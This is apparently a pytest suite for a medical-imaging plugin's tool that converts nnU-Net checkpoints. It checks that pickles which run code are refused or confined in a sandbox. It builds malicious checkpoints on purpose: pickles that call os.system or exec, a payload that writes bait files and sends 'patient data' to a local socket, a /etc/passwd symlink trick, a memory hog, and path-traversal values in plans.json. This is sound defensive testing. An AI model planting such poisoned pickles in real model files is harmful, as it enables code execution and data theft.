"""Models written again: plain numbers, the same masks; a closed room for what runs something."""

import builtins
import errno
import importlib.util
import json
import os
import shutil
import subprocess
import sys
import zipfile
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from tests.stepped import Stepped
from typer.testing import CliRunner

from napari_mamamia.core.choices import IsolationKind
from napari_mamamia.core.errors import (
    ModelError,
    RefusedCheckpointError,
    Remedy,
    SaveConflictError,
    SaveError,
)
from napari_mamamia.core.grid import Grid
from napari_mamamia.core.program.owner import this_process
from napari_mamamia.core.progress import listening
from napari_mamamia.segmentation.model.engine import EngineInput
from napari_mamamia.segmentation.model.engine_settings import EngineSettings
from napari_mamamia.segmentation.nnunet.isolated import SandboxLimits
from napari_mamamia.segmentation.run.weights import recognise_model
from napari_mamamia.segmentation.sandbox.isolation import Isolation
from napari_mamamia.services.batch.child import Child
from napari_mamamia.services.predict import convert_model as conversion
from napari_mamamia.services.predict.convert_model import (
    convert_model,
    convertible,
    isolation_reason,
)

torch = pytest.importorskip("torch")
pytest.importorskip("safetensors")
pytest.importorskip("dynamic_network_architectures")

_FOUND = importlib.util.spec_from_file_location(
    "made_models", Path(__file__).parents[1] / "segmentation" / "conftest.py"
)
made = importlib.util.module_from_spec(_FOUND)
sys.modules["made_models"] = made
_FOUND.loader.exec_module(made)

GRID = Grid((14, 18, 20), np.diag([-1.0, -1.0, 1.0, 1.0]))
LEAF = "nnUNetTrainer__nnUNetPlans__3d_fullres"


def labels_of(path):
    from napari_mamamia.segmentation.nnunet.engine import load_nnunet

    arrays = list(np.random.default_rng(4).integers(1, 90, (2, *GRID.shape)).astype(np.int16))
    engine = load_nnunet(recognise_model(path), EngineSettings(threads=1))
    return engine.predict(EngineInput(arrays, GRID)).labels


def files_below(folder):
    return sorted(file.relative_to(folder).as_posix() for file in folder.rglob("*.*"))


@pytest.fixture(scope="module")
def one_process():
    """Return a process for networks that lasts: starting one takes seconds."""
    child = Child()
    end, child.close = child.close, lambda: None
    yield child
    end()


@pytest.fixture(autouse=True)
def shared_process(one_process, monkeypatch):
    monkeypatch.setenv("OMP_NUM_THREADS", "1")
    monkeypatch.setattr(conversion, "Child", lambda: one_process)


@pytest.fixture
def root(tmp_path):
    return made.write_model(tmp_path / "results", made.Spec(folds=("0", "1"), mirror=(1,)))


def test_the_new_model_has_the_old_texts_plain_weights_and_the_same_mask(root, tmp_path):
    (root / "LICENSE").write_text("CC BY 4.0\n" + "long " * 5000)
    (root / "mamamia_model.json").write_text('{"title": "mine"}')
    (root / "postprocessing.pkl").write_bytes(b"a pickle")
    seen = []
    out = tmp_path / "new" / "model"
    with listening(seen.append):
        done = convert_model(root, out)
    assert files_below(out) == [
        LEAF + "/" + name
        for name in (
            "dataset.json",
            "fold_0/checkpoint_final.safetensors",
            "fold_1/checkpoint_final.safetensors",
            "mamamia_model.json",
            "plans.json",
        )
    ]
    for name in ("plans.json", "dataset.json", "LICENSE", "mamamia_model.json"):
        assert (out / LEAF / name).read_bytes() == (root / name).read_bytes()
    assert np.array_equal(labels_of(out), labels_of(root))
    assert done.card.folds == ("0", "1")
    assert done.card.trainer == "nnUNetTrainer"
    assert done.isolation == ""
    sums = [weight.sha256 for weight in recognise_model(root).weights]
    assert [file.source_sha256 for file in done.files] == sums
    assert seen[-1].fraction == 1.0
    assert "every checkpoint" in convertible(out)


def test_torch_never_comes_into_the_process_that_asks(root, tmp_path):
    code = (
        "import sys; from pathlib import Path\n"
        "from napari_mamamia.services.predict.convert_model import convert_model\n"
        f"convert_model(Path({str(root)!r}), Path({str(tmp_path / 'new')!r}))\n"
        "print([name for name in ('torch', 'safetensors') if name in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_a_zip_and_a_cascade_are_converted_whole(tmp_path):
    low = made.Spec(configuration="3d_lowres", spacing=(2.0, 2.0, 2.0), seed=8)
    high = made.Spec(
        configuration="3d_cascade_fullres", previous_stage="3d_lowres", extra_inputs=1, seed=9
    )
    made.write_model(tmp_path / "results", low)
    root = tmp_path / "second"
    last = made.write_model(root, high)
    shutil.move(last, tmp_path / "results" / "Dataset900_Made" / last.name)
    plain = tmp_path / "results" / "Dataset900_Made" / last.name
    plans = json.loads((plain / "plans.json").read_text())
    plans["configurations"]["3d_cascade_fullres"]["previous_stage"] = "3d_lowres"
    (plain / "plans.json").write_text(json.dumps(plans))
    packed = tmp_path / "model.zip"
    with zipfile.ZipFile(packed, "w") as archive:
        for file in (tmp_path / "results").rglob("*.*"):
            if file.is_file():
                archive.write(file, file.relative_to(tmp_path / "results"))
    done = convert_model(packed, tmp_path / "new")
    assert [file.name.partition("/")[0].rpartition("__")[2] for file in done.files] == [
        "3d_lowres",
        "3d_cascade_fullres",
    ]
    assert not list((tmp_path / "new").rglob("*.pth"))
    assert np.array_equal(labels_of(tmp_path / "new"), labels_of(plain))


def test_nothing_is_overwritten_and_an_empty_folder_is_taken(root, tmp_path):
    out = tmp_path / "new"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    with pytest.raises(SaveConflictError, match="is not empty"):
        convert_model(root, out)
    assert files_below(out) == ["notes.txt"]
    (out / "notes.txt").unlink()
    convert_model(root, out)
    assert recognise_model(out).usable


def test_cancelled_or_failed_it_leaves_nothing(root, tmp_path):
    before = sorted(tmp_path.iterdir())
    job = Stepped(convert_model, root, tmp_path / "new")
    for progress in job:
        if "fold_1" in progress.text:
            break
    job.close()
    assert sorted(tmp_path.iterdir()) == before
    file = root / "fold_1" / "checkpoint_final.pth"
    file.write_bytes(file.read_bytes()[:-300])
    with pytest.raises(ModelError, match="damaged or truncated"):
        convert_model(root, tmp_path / "new")
    assert sorted(tmp_path.iterdir()) == before


@pytest.mark.parametrize("name", ["fold_1", ""])
def test_a_folder_that_cannot_be_listed_is_an_error_and_not_a_smaller_model(
    root, tmp_path, monkeypatch, name
):
    """A network drive that is away for a moment: what it hides must not look absent."""
    real, seen = os.scandir, []
    struck = root / name

    def scandir(path):
        seen.append(Path(path))
        if Path(path) == struck and seen.count(struck) > 1:  # after the first look at the model
            raise OSError(errno.EIO, os.strerror(errno.EIO), str(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    with pytest.raises(ModelError, match="cannot read"):
        convert_model(root, tmp_path / "new")
    monkeypatch.undo()
    assert not (tmp_path / "new").exists()
    assert list(tmp_path.rglob(".mamamia-*")) == []


def test_a_place_that_cannot_be_written_is_told(root, tmp_path):
    (tmp_path / "file").write_text("no folder")
    with pytest.raises(SaveError, match="cannot write in"):
        convert_model(root, tmp_path / "file" / "new")


def test_other_kinds_are_left_as_they_are(tmp_path):
    (tmp_path / "net.onnx").write_bytes(b"x")
    assert "of the kind ONNX" in convertible(tmp_path / "net.onnx")
    assert "does not exist" in convertible(tmp_path / "absent")


class Call:
    """Unpickling it calls a function."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return (self.function, self.arguments)


def run_code(text):
    return Call(builtins.exec, text)


def poisoned(root, *calls):
    """Put calls into the checkpoint of fold 0, before its weights and after them."""
    file = root / "fold_0" / "checkpoint_final.pth"
    found = torch.load(file, weights_only=False)
    torch.save({"logging": list(calls), **found, "current_epoch": list(calls)}, file)


@pytest.fixture
def evil(tmp_path):
    return made.write_model(tmp_path / "evil", made.Spec(mirror=(1,)))


@pytest.fixture
def room():
    if reason := isolation_reason(as_root=True):
        pytest.skip(reason)


STEAL = """
import pathlib, socket
for place in {places!r}:
    try:
        pathlib.Path(place).write_text("was here")
    except OSError:
        pass
with socket.create_connection(("127.0.0.1", {port}), timeout=20) as s:
    s.sendall(b"patient data")
    s.recv(1)  # the server closes once it has noted the call
"""


def test_a_refused_checkpoint_says_what_it_wants_and_how_to_convert_it(evil, tmp_path):
    poisoned(evil, Call(os.system, "true"))
    with pytest.raises(RefusedCheckpointError, match=r"would call posix\.system") as refused:
        convert_model(evil, tmp_path / "new")
    assert refused.value.remedies == (Remedy(command="models convert", values=(str(evil),)),)
    assert not (tmp_path / "new").exists()
    assert convertible(evil) == ""


def test_a_refusal_of_the_models_process_arrives_as_what_it_is(evil):
    from napari_mamamia.segmentation.run.engine_host import EngineHost
    from napari_mamamia.segmentation.worker.wire import error_from, error_on_wire

    poisoned(evil, Call(os.system, "true"))
    with pytest.raises(RefusedCheckpointError) as refused:
        EngineHost().plan(recognise_model(evil), EngineSettings(), GRID, None)
    again = error_from(json.loads(json.dumps(error_on_wire(refused.value))))
    assert type(again) is RefusedCheckpointError
    assert str(again) == str(refused.value)


def test_in_the_room_it_reaches_nothing_and_its_numbers_come_out(
    evil, tmp_path, room, server, monkeypatch
):
    clean = labels_of(evil)
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    port, calls = server
    baits = [home / "bait", evil / "bait", tmp_path / "bait"]
    steal = STEAL.format(places=list(map(str, baits)), port=port)
    poisoned(evil, run_code(steal), Call(os.system, f"touch {home}/other"))
    with (evil / "fold_0" / "checkpoint_final.pth").open("rb") as stream:  # the trap is real
        torch.load(stream, weights_only=False)
    assert calls == [b"patient data"]
    assert all(bait.exists() for bait in [*baits, home / "other"])
    calls.clear()
    for bait in [*baits, home / "other"]:
        bait.unlink()
    done = convert_model(evil, tmp_path / "new", isolated=True, as_root=True)
    assert calls == []
    assert not any(bait.exists() for bait in [*baits, home / "other"])
    assert list(home.iterdir()) == []
    assert done.isolation.startswith("isolated by bubblewrap")
    assert np.array_equal(labels_of(tmp_path / "new"), clean)


def test_what_is_not_installed_here_does_not_keep_the_numbers_in(evil, tmp_path, room, monkeypatch):
    clean = labels_of(evil)
    (tmp_path / "lost_module.py").write_text("class Logger:\n    def __init__(self): self.a = 1\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    import lost_module

    poisoned(evil, lost_module.Logger())
    del sys.modules["lost_module"]
    (tmp_path / "lost_module.py").unlink()
    convert_model(evil, tmp_path / "new", isolated=True, as_root=True)
    assert np.array_equal(labels_of(tmp_path / "new"), clean)


SAY = '{"event": "finished"}'
LINK = f"""
import os
for fd in range(3, 64):
    try:
        os.write(fd, b'{SAY}\\n')
    except OSError:
        pass
os.symlink("/etc/passwd", "/app/output/weights.safetensors")
os._exit(0)
"""
HOG = """
import time
held = []
for _ in range(80):
    held.append(bytearray(b"x") * 50_000_000)
    time.sleep(0.05)
"""


@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
@pytest.mark.parametrize(
    ("payload", "limits", "said"),
    [
        ("while True: pass", SandboxLimits(seconds=2.0), "time limit of 2 s"),
        (HOG, SandboxLimits(memory_bytes=900_000_000), "at most 0.9 GB of memory"),
        ("import os; os._exit(7)", SandboxLimits(), r"ended early \(exit code 7\)"),
        (LINK, SandboxLimits(), "weights.safetensors to be a regular file"),
    ],
    ids=["hangs", "eats memory", "ends", "gives a link"],
)
def test_what_does_harm_in_the_room_is_ended_and_nothing_is_written(
    evil, tmp_path, room, payload, limits, said
):
    poisoned(evil, run_code(payload))
    before = sorted(tmp_path.iterdir())
    with pytest.raises(ModelError, match=said):
        convert_model(evil, tmp_path / "new", isolated=True, as_root=True, limits=limits)
    assert sorted(tmp_path.iterdir()) == before


def test_numbers_that_do_not_fit_the_plans_are_refused(evil, tmp_path, room):
    poisoned(evil, Call(os.system, "true"))
    plans = json.loads((evil / "plans.json").read_text())
    wider = plans["configurations"]["made_parent"]["architecture"]["arch_kwargs"]
    wider["features_per_stage"] = [4, 8]
    (evil / "plans.json").write_text(json.dumps(plans))
    with pytest.raises(ModelError, match=r"to fit the network of the plans.*instead of \(8"):
        convert_model(evil, tmp_path / "new", isolated=True, as_root=True)
    assert not (tmp_path / "new").exists()


def test_root_opens_nothing_in_a_room_unless_asked_by_name(evil, tmp_path, monkeypatch):
    monkeypatch.setattr("os.geteuid", lambda: 0)
    assert "account is root" in isolation_reason()
    with pytest.raises(ModelError, match="or allow root"):
        convert_model(evil, tmp_path / "new", isolated=True)
    assert not (tmp_path / "new").exists()


def test_without_a_closed_room_it_is_refused_with_the_reason(evil, tmp_path, monkeypatch):
    from napari_mamamia.segmentation.nnunet.isolated import taken_out

    monkeypatch.setenv("PATH", str(tmp_path))
    assert "bubblewrap is not installed" in isolation_reason(as_root=True)
    with pytest.raises(ModelError, match="bubblewrap is not installed"):
        convert_model(evil, tmp_path / "new", isolated=True, as_root=True)
    assert not (tmp_path / "new").exists()
    file = evil / "fold_0" / "checkpoint_final.pth"
    with pytest.raises(ModelError, match="only be opened in a sandbox"):
        taken_out(file, Isolation(IsolationKind.NONE), tmp_path)


def test_the_command_converts_a_refused_model_by_its_added_name(evil, tmp_path, room):
    from napari_mamamia.cli import app

    poisoned(evil, Call(os.system, "true"))
    words = ["models", "convert", "mine", "--out", str(tmp_path / "new")]
    runner = CliRunner()
    added = runner.invoke(app, ["models", "add", str(evil), "--name", "mine"])
    assert added.exit_code == 0, added.output
    done = runner.invoke(app, [*words, "--isolated", "--as-root"])
    assert done.exit_code == 0, done.output
    assert f"{LEAF}/fold_0/checkpoint_final.safetensors" in done.output
    assert "isolated by bubblewrap" in done.output
    assert recognise_model(tmp_path / "new").usable


def test_what_a_killed_conversion_left_is_removed_by_the_next_one(root, tmp_path):
    left = tmp_path / f".mamamia-{replace(this_process(), start='0badc0de')}-0a1b2c3d.part"
    left.mkdir()
    (left / "plans.json").write_text("{}")
    job = Stepped(convert_model, root, tmp_path / "new")
    next(step for step in job if "fold_0" in step.text)
    assert not left.exists()
    job.close()
    assert list(tmp_path.glob(".mamamia-*")) == []


@pytest.mark.parametrize("where", ["name of a zip", "first stage", "licence"])
def test_a_model_cannot_make_its_conversion_write_or_copy_elsewhere(root, tmp_path, where):
    out = tmp_path / "inner" / "place" / "new"
    plans = json.loads((root / "plans.json").read_text())
    model, said = root, "points outside its folder"
    if where == "licence":
        (tmp_path / "secret").write_text("private")
        (root / "LICENSE").symlink_to(tmp_path / "secret")
    elif where == "first stage":
        plans["configurations"]["made_parent"]["previous_stage"] = "/../../../escaped"
        said = "could lead to another folder"
    else:
        plans["dataset_name"] = "../../escaped"
        plans["configurations"] = {"3d_fullres": plans["configurations"]["made_parent"]}
    (root / "plans.json").write_text(json.dumps(plans))
    if where == "name of a zip":
        model = tmp_path / "model.zip"
        with zipfile.ZipFile(model, "w") as archive:
            for file in root.rglob("*.*"):
                if file.is_file():
                    archive.write(file, file.relative_to(root))
        convert_model(model, out)
        assert [folder.name for folder in out.iterdir()] == ["_.._escaped_3d_fullres"]
    else:
        with pytest.raises(ModelError, match=said):
            convert_model(model, out)
        assert not out.exists()
    assert not list(tmp_path.rglob("escaped*"))
    assert not [file for file in tmp_path.rglob("LICENSE") if not file.is_symlink()]
